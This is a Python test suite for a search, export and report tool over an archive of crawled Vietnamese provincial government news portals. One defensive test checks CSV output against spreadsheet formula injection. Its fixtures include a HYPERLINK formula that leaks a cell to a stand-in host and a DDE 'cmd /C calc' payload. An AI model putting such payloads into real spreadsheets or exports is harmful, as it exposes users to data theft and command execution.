"""What researchers do with the archive: search it with filters, read an article with its
history, export data to their own tools, open a report, and query it with SQL from
docs/schema.md; against the sample portals crawled over HTTP (``research_archive``)."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
import tracemalloc
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from archive import export
from archive.search import Filters
from archive.store import Archive, Batch
from archive.tables import export_kinds, markdown
from archive.tables import tables as described
from archive.warc import read_record
from archive.web.app import metadata
from portals.extract import Record
from portals.folding import fold
from portals.items import Provenance

from .conftest import EDITED_TITLE, EDITED_URL, run_cli

DOCS = Path(__file__).parent.parent / "docs" / "schema.md"
HUE_SITES = {"sdl.thuathienhue.gov.vn", "thuathienhue.gov.vn"}
DANANG_TITLE = "Đà Nẵng trao quyết định chủ trương đầu tư cho 5 dự án công nghiệp"


def _json(result: object) -> object:
    assert result.code == 0, result.err  # type: ignore[attr-defined]
    return json.loads(result.out)  # type: ignore[attr-defined]


def _one_line_error(result: object) -> str:
    assert result.code == 2, (result.code, result.out, result.err)  # type: ignore[attr-defined]
    lines = result.err.strip().splitlines()  # type: ignore[attr-defined]
    assert len(lines) == 1 and lines[0].startswith("Error: ") and "Traceback" not in result.err, result.err  # type: ignore[attr-defined]
    return lines[0]


def _search(db: Path, query: str, *options: str) -> list[dict]:
    return _json(run_cli("search", query, "--db", str(db), "--format", "json", "--limit", "1000", *options))  # type: ignore[return-value]


# -- search ------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "spellings",
    [
        ["Đà Nẵng", "da nang", "ĐÀ NẴNG", unicodedata.normalize("NFD", "Đà Nẵng"), "Ðà Nẵng"],  # NFD, Ð (U+00D0)
        ["Thanh Hóa", "Thanh Hoá", "thanh hoa"],  # new and old tone placement
        ["chuyển đổi số", "chuyen doi so", unicodedata.normalize("NFD", "CHUYỂN ĐỔI SỐ")],
    ],
)
def test_search_finds_the_same_however_it_is_typed(research_archive: Path, spellings: list[str]) -> None:
    results = [[h["id"] for h in _search(research_archive, s)] for s in spellings]
    assert results[0], f"nothing found for {spellings[0]!r}"
    assert all(r == results[0] for r in results), dict(zip(spellings, results, strict=True))


def test_words_typed_side_by_side_rank_as_a_phrase(research_archive: Path) -> None:
    hits = _search(research_archive, "da nang")
    assert hits[0]["title"] == DANANG_TITLE
    assert "<mark>Đà Nẵng</mark>" in hits[0]["snippet"]  # highlighted in the original diacritics
    # Articles with "Đà Nẵng" come before those that merely hold "đã" and "nâng" apart.
    conn = sqlite3.connect(f"file:{research_archive}?mode=ro", uri=True)
    texts = [conn.execute("SELECT title || ' ' || body FROM articles WHERE id = ?", [h["id"]]).fetchone()[0] for h in hits]
    conn.close()
    together = [re.search(r"(?<!\w)da\W+nang(?!\w)", fold(t)) is not None for t in texts]
    assert True in together and False in together
    assert together == sorted(together, reverse=True), together


@pytest.mark.parametrize("province", ["Huế", "thua thien hue", "Thừa Thiên Huế", "TP. Huế", "tỉnh Thừa Thiên Huế"])
def test_search_by_province_current_or_pre_2025_name(research_archive: Path, province: str) -> None:
    hits = _search(research_archive, "tinh", "--province", province)
    assert hits and {h["site"] for h in hits} == HUE_SITES
    everywhere = _search(research_archive, "tinh")
    assert len(everywhere) > len(hits)


def test_search_by_site_family_and_date(research_archive: Path) -> None:
    hits = _search(research_archive, "thanh pho", "--family", "liferay")
    assert hits and {h["site"] for h in hits} == {"danang.gov.vn"}
    two = _search(research_archive, "du lich", "--site", "https://www.thuathienhue.gov.vn/", "--site", "sdl.thuathienhue.gov.vn")
    assert {h["site"] for h in two} == HUE_SITES
    # --until is inclusive of the whole day, whatever time of day the article carries.
    june = _search(research_archive, "da nang", "--since", "2021-06-17", "--until", "2021-06-17")
    assert [h["title"] for h in june] == [DANANG_TITLE]
    assert june[0]["date"] == "2021-06-17T15:40+07:00"
    assert _search(research_archive, "da nang", "--since", "2021-06-18", "--until", "2021-06") == []


def test_search_output_formats(research_archive: Path) -> None:
    db = str(research_archive)
    lines = run_cli("search", "cong nghe thong tin", "--db", db, "--format", "jsonl", "--limit", "3").out.splitlines()
    assert len(lines) == 3 and all(
        set(json.loads(line)) == {"id", "url", "site", "title", "date", "snippet", "score", "apart", "cursor"} for line in lines
    )
    rows = list(csv.DictReader(io.StringIO(run_cli("search", "cong nghe", "--db", db, "--format", "csv").out)))
    assert rows and list(rows[0]) == ["id", "date", "site", "title", "url", "snippet", "score", "apart", "cursor"]
    table = run_cli("search", "hue", "--db", db, "--limit", "2")
    assert table.code == 0 and re.search(r"2 of \d+ result\(s\) \(--limit \d+ shows all\)", table.out), table.out
    dated = _search(research_archive, "hue", "--sort", "date")
    assert [h["date"] for h in dated] == sorted((h["date"] for h in dated), reverse=True)
    # By relevance, title matches come first, ranked by their bm25 score (best first); the other
    # matches follow newest first, without a score, as every hit newest first, in JSON or CSV.
    ranked = _search(research_archive, "hue")
    scored = [h["score"] for h in ranked if h["score"] is not None]
    assert len(scored) > 1 and scored == sorted(scored, reverse=True)
    assert all("Huế" in h["title"] for h in ranked[: len(scored)])
    rest = ranked[len(scored) :]
    assert rest and all(h["score"] is None and "Huế" not in h["title"] for h in rest)
    assert [h["date"] for h in rest] == sorted((h["date"] for h in rest), reverse=True)
    assert dated and all(h["score"] is None for h in dated)
    by_date = list(csv.DictReader(io.StringIO(run_cli("search", "hue", "--db", db, "--format", "csv", "--sort", "date").out)))
    assert by_date and {r["score"] for r in by_date} == {""}


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["hue", "--province", "Atlantis"], "no province 'Atlantis' in the registry"),
        (["hue", "--site", "khongco.gov.vn"], "no site 'khongco.gov.vn' in this archive"),
        (["hue", "--family", "drupal"], "unknown family 'drupal'"),
        (["hue", "--since", "2021", "--until", "2020"], "is after --until"),
        (["(hue"], "bad query"),
        (["hue", "--format", "xml"], "xml"),
    ],
)
def test_search_bad_filters_are_one_line(research_archive: Path, args: list[str], message: str) -> None:
    assert message in _one_line_error(run_cli("search", *args, "--db", str(research_archive)))


# -- show --------------------------------------------------------------------------------------
def test_show_an_article_with_its_versions_and_provenance(research_archive: Path) -> None:
    db = str(research_archive)
    variants = [
        EDITED_URL,
        "https://www.sdl.thuathienhue.gov.vn/?tc=4335&gd=4&cn=121",
        "http://sdl.thuathienhue.gov.vn/?gd=4&cn=121&tc=4335",
    ]
    shown = [run_cli("show", v, "--db", db) for v in variants]
    assert all(r.code == 0 for r in shown), [r.err for r in shown]
    article_id = re.search(r"^id\s+(\d+)$", shown[0].out, re.M).group(1)  # type: ignore[union-attr]
    assert all(r.out == shown[0].out for r in shown) and run_cli("show", article_id, "--db", db).out == shown[0].out
    text = shown[0].out
    assert text.startswith(EDITED_TITLE + "\n")
    assert "Sở Du lịch Thừa Thiên Huế (Huế; before 2025: Thừa Thiên Huế)" in text
    assert "theo www.thuathienhue.gov.vn (HNQ), publisher www.thuathienhue.gov.vn, author HNQ" in text
    assert "date      2020-08-27" in text and "Năm 2020, tỉnh tiếp tục giữ vị trí thứ nhất./." in text
    assert "Versions (2)" in text and "first capture" in text and "changed: title, body" in text

    data = _json(run_cli("show", article_id, "--db", db, "--format", "json"))
    versions = data["versions"]  # type: ignore[index]
    assert [v["version"] for v in versions] == [1, 2] and versions[1]["changed"] == ["title", "body"]
    assert versions[0]["record"]["title"] == "Thừa Thiên Huế dẫn đầu toàn quốc về ứng dụng công nghệ thông tin"
    assert data["site"]["province_before_2025"] == "Thừa Thiên Huế"  # type: ignore[index]
    warc = research_archive.parent / "warc"
    for v in versions:  # every version's provenance points at its raw response
        assert f"WARC {v['warc_file']} @ offset {v['warc_offset']}, record {v['warc_record_id']}" in text
        stored = read_record(warc, v["warc_file"], v["warc_offset"])
        assert stored.url == v["fetched_url"] and stored.status == 200
    assert "tiếp tục dẫn đầu" not in read_record(warc, versions[0]["warc_file"], versions[0]["warc_offset"]).body.decode()
    assert "tiếp tục dẫn đầu" in read_record(warc, versions[1]["warc_file"], versions[1]["warc_offset"]).body.decode()


def test_show_diff_between_versions(research_archive: Path) -> None:
    result = run_cli("show", EDITED_URL, "--db", str(research_archive), "--diff", "--no-body")
    assert result.code == 0, result.err
    out = result.out
    assert "--- version 1 (" in out and "+++ version 2 (" in out
    assert "-title: Thừa Thiên Huế dẫn đầu toàn quốc về ứng dụng công nghệ thông tin" in out
    assert f"+title: {EDITED_TITLE}" in out
    assert re.search(r"^\+.*có hiệu quả cao\. Năm 2020, tỉnh tiếp tục giữ vị trí thứ nhất\./\.$", out, re.M)
    assert "Theo báo cáo của Bộ" not in out.split("Changes between versions")[0]  # --no-body


def test_show_attachments_and_errors(research_archive: Path) -> None:
    db = str(research_archive)
    conn = sqlite3.connect(f"file:{research_archive}?mode=ro", uri=True)
    article_id, url, media_type, size, file, offset = conn.execute(
        "SELECT article_id, url, media_type, size, warc_file, warc_offset FROM attachments "
        "WHERE status = 'fetched' ORDER BY article_id LIMIT 1"
    ).fetchone()
    conn.close()
    out = run_cli("show", str(article_id), "--db", db).out
    assert "Attachments (" in out and url in out and f"fetched, {media_type}, {size:,} bytes" in out
    assert f"WARC {file} @ offset {offset}" in out
    assert "no article with id 999999" in _one_line_error(run_cli("show", "999999", "--db", db))
    assert "no article at" in _one_line_error(run_cli("show", "http://danang.gov.vn/khong-co", "--db", db))


# -- export ------------------------------------------------------------------------------------
def _count(db: Path, sql: str) -> int:
    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return conn.execute(sql).fetchone()[0]
    finally:
        conn.close()


def test_export_articles_csv_and_jsonl(research_archive: Path, tmp_path: Path) -> None:
    db = str(research_archive)
    result = run_cli("export", "articles", "--db", db)
    assert result.code == 0, result.err
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert list(rows[0]) == list(export_kinds()["articles"].columns)
    assert len(rows) == _count(research_archive, "SELECT count(*) FROM articles")
    edited = next(r for r in rows if r["url"] == EDITED_URL)
    assert edited["title"] == EDITED_TITLE and edited["versions"] == "2" and edited["province"] == "Huế"
    assert edited["body"].count("\n\n") == 2  # paragraphs survive the CSV round trip

    out = tmp_path / "hue.jsonl"
    result = run_cli("export", "articles", "--db", db, "--province", "thua thien hue", "--format", "jsonl", "--out", str(out))
    assert result.code == 0 and f"to {out}" in result.err
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert records and {r["site"] for r in records} == HUE_SITES and list(records[0]) == list(export_kinds()["articles"].columns)
    assert [r["id"] for r in records] == sorted(r["id"] for r in records)
    assert isinstance(records[0]["versions"], int)

    queried = run_cli("export", "articles", "--db", db, "--query", '"cong nghe thong tin"', "--format", "jsonl").out
    found = {json.loads(line)["id"] for line in queried.splitlines()}
    assert found == {h["id"] for h in _search(research_archive, '"cong nghe thong tin"')}

    bom = tmp_path / "excel.csv"
    assert run_cli("export", "articles", "--db", db, "--bom", "--out", str(bom), "--site", "danang.gov.vn").code == 0
    assert bom.read_bytes().startswith(b"\xef\xbb\xbfid,url,site,")


def test_export_visitor_stats_and_runs(research_archive: Path) -> None:
    db = str(research_archive)
    stats = list(csv.DictReader(io.StringIO(run_cli("export", "visitor-stats", "--db", db).out)))
    assert list(stats[0]) == list(export_kinds()["visitor-stats"].columns)
    sdl = [r for r in stats if r["site"] == "sdl.thuathienhue.gov.vn"]
    assert [r["total"] for r in sdl] == ["53957", "54321"] and sdl[0]["observed_at"] < sdl[1]["observed_at"]
    runs = [json.loads(line) for line in run_cli("export", "runs", "--db", db, "--format", "jsonl").out.splitlines()]
    assert list(runs[0]) == list(export_kinds()["runs"].columns) and len(runs) == _count(
        research_archive, "SELECT count(*) FROM crawl_runs"
    )
    assert all(isinstance(r["warc_files"], list) and r["status"] == "finished" for r in runs)
    hue = run_cli("export", "runs", "--db", db, "--province", "Huế", "--format", "jsonl").out.splitlines()
    assert {json.loads(line)["site"] for line in hue} == HUE_SITES


def test_export_bad_input_writes_nothing(research_archive: Path, tmp_path: Path) -> None:
    db = str(research_archive)
    out = tmp_path / "x.csv"
    assert "bad query" in _one_line_error(run_cli("export", "articles", "--db", db, "--query", "NOT x", "--out", str(out)))
    assert "apply to `export articles` only" in _one_line_error(run_cli("export", "runs", "--db", db, "--query", "hue"))
    assert "does not exist" in _one_line_error(run_cli("export", "runs", "--db", db, "--out", str(tmp_path / "no" / "x")))
    assert "'pages' is not one of" in _one_line_error(run_cli("export", "pages", "--db", db))
    assert list(tmp_path.iterdir()) == []


def test_csv_exports_never_hand_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    """Text a page wrote that a spreadsheet would run ("=HYPERLINK(…)", "@SUM(…)", "+84 …",
    "-…") is exported with a leading "'" in CSV, with or without --bom; --raw-cells and JSON Lines
    keep what is stored."""
    db = tmp_path / "formulas.sqlite"
    titles = {
        "https://hue.gov.vn/tin/1": '=HYPERLINK("http://example.invalid/?q="&A1,"Xem chi tiết")',
        "https://hue.gov.vn/tin/2": "@SUM(1+1)*cmd|' /C calc'!A0",
        "https://hue.gov.vn/tin/3": "+84 234 3822 xxx: đường dây nóng",
        "https://hue.gov.vn/tin/4": "-Thông báo lịch tiếp công dân tháng 5",
        "https://hue.gov.vn/tin/5": "\tTổng kết công tác năm 2024",
        "https://hue.gov.vn/tin/6": "Hội nghị tổng kết công tác năm 2024 = thành công",
    }
    body = "Ủy ban nhân dân tỉnh tổ chức hội nghị tổng kết công tác chuyển đổi số năm 2024 tại thành phố Huế."
    with Archive(db) as archive:
        batch = Batch()
        for url, title in titles.items():
            batch.articles.append(
                (Record(url=url, site="hue.gov.vn", title=title, date="2024-05-01", body=body), Provenance("2024-05-02", url))
            )
        archive.write(batch)
    for extra in ((), ("--bom",)):
        out = tmp_path / f"articles{len(extra)}.csv"
        assert run_cli("export", "articles", "--db", str(db), *extra, "--out", str(out)).code == 0
        rows = {r["url"]: r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig")))}
        for url, title in titles.items():
            inert = "'" + title if title[0] in "=+-@\t" else title
            assert rows[url]["title"] == inert, (url, rows[url]["title"])
        assert rows["https://hue.gov.vn/tin/1"]["views"] == ""  # (no number is touched)
    raw = run_cli("export", "articles", "--db", str(db), "--raw-cells")
    assert raw.code == 0
    assert {r["url"]: r["title"] for r in csv.DictReader(io.StringIO(raw.out))} == titles
    lines = run_cli("export", "articles", "--db", str(db), "--format", "jsonl").out.splitlines()
    assert {json.loads(line)["url"]: json.loads(line)["title"] for line in lines} == titles
    refused = run_cli("export", "articles", "--db", str(db), "--format", "jsonl", "--raw-cells")
    assert refused.code == 2 and "applies to --format csv only" in refused.err


def test_export_streams_in_constant_memory(tmp_path: Path) -> None:
    """500 articles of 20 kB (10 MB of text, ten times the bound) go through in well under a
    megabyte of Python memory: rows are written as the cursor yields them, never gathered."""
    paragraph = "Ủy ban nhân dân tỉnh tổ chức hội nghị tổng kết công tác chuyển đổi số năm 2024. " * 250
    with Archive(tmp_path / "big.sqlite") as archive:
        batch = Batch()
        for i in range(500):
            url = f"https://hue.gov.vn/tin-tuc/{i}"
            batch.articles.append(
                (
                    Record(url=url, site="hue.gov.vn", title=f"Tin {i}", date="2024-05-01", body=paragraph),
                    Provenance("2024-05-02", url),
                )
            )
        archive.write(batch)
    with Archive(tmp_path / "big.sqlite", readonly=True) as archive, (tmp_path / "out.csv").open("w", encoding="utf-8") as out:
        tracemalloc.start()
        n = export.write(export.rows(archive, "articles", Filters.of(province="Huế")), "articles", "csv", out)
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert n == 500 and (tmp_path / "out.csv").stat().st_size > 10_000_000
    assert peak < 1_000_000, f"export held {peak:,} bytes"


# -- report ------------------------------------------------------------------------------------
def test_report_is_a_self_contained_page_with_charts(research_archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    result = run_cli("report", "--db", str(research_archive), "--out", str(out))
    assert result.code == 0, result.err
    page = out.read_text(encoding="utf-8")
    for forbidden in ("<script", "<link", " src=", "url(", "@import", "<iframe"):
        assert forbidden not in page, f"the report loads something: {forbidden}"
    assert re.findall(r"https?://[^\s\"'<]+", page) == ["http://www.w3.org/2000/svg"] * page.count("<svg")
    sites = {
        r[0] for r in sqlite3.connect(f"file:{research_archive}?mode=ro", uri=True).execute("SELECT DISTINCT site FROM articles")
    }
    for site in sites:
        assert f'id="pub-{site}"' in page and f'id="visits-{site}"' in page
    svgs = re.findall(r"<svg.*?</svg>", page, re.S)
    assert len(svgs) == 2 * len(sites) + 1
    for svg in svgs:
        ET.fromstring(svg)  # well-formed
    visits = next(s for s in svgs if "sdl.thuathienhue.gov.vn: total visits" in s)
    assert "<polyline" in visits and "54,321 total" in visits and "53,957 total" in visits
    assert "2021-06: 9 articles" in next(s for s in svgs if "danang.gov.vn: articles per month" in s)
    assert "Sở Du lịch Thừa Thiên Huế" in page and "<td>Huế</td>" in page


def test_report_filters_and_bad_input(research_archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "danang.html"
    assert run_cli("report", "--db", str(research_archive), "--out", str(out), "--province", "da nang").code == 0
    page = out.read_text(encoding="utf-8")
    assert "danang.gov.vn: articles per month" in page and "sdl.thuathienhue.gov.vn" not in page
    assert "--out" in _one_line_error(run_cli("report", "--db", str(research_archive)))


# -- docs/schema.md ------------------------------------------------------------------------------
def _documented_sql() -> list[str]:
    return re.findall(r"```sql\n(.*?)```", DOCS.read_text(encoding="utf-8"), re.S)


def test_schema_doc_has_ten_example_queries_that_answer(research_archive: Path) -> None:
    queries = _documented_sql()
    assert len(queries) >= 10
    conn = sqlite3.connect(f"file:{research_archive}?mode=ro", uri=True)
    try:
        for sql in queries:
            rows = conn.execute(sql).fetchall()
            assert rows, f"no rows for:\n{sql}"
    finally:
        conn.close()


def test_schema_doc_and_browser_describe_every_column(research_archive: Path) -> None:
    doc = DOCS.read_text(encoding="utf-8")
    conn = sqlite3.connect(f"file:{research_archive}?mode=ro", uri=True)
    try:
        tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT GLOB '*_fts_*'")]
        for table in tables:
            assert f"### `{table}`" in doc, f"docs/schema.md does not describe the table {table}"
            section = doc.split(f"### `{table}`", 1)[1].split("\n### ", 1)[0]
            for (column,) in conn.execute(f"SELECT name FROM pragma_table_info('{table}')"):
                assert f"| `{column}` |" in section, f"docs/schema.md does not describe {table}.{column}"
            columns = [c for (c,) in conn.execute(f"SELECT name FROM pragma_table_info('{table}')")]
            assert [c.name for c in described()[table].columns] == columns, f"archive/tables.toml is out of date for {table}"
        # One description for all: the documentation's tables section is made from it …
        assert markdown() in doc, "docs/schema.md is out of date: run `python -m archive.tables docs/schema.md`"
        # … and the browser shows the same columns with the same meanings.
        shown = metadata("archive")["databases"]["archive"]["tables"]
        for spec in described().values():
            assert list(shown[spec.name]["columns"]) == [c.name for c in spec.columns]
    finally:
        conn.close()
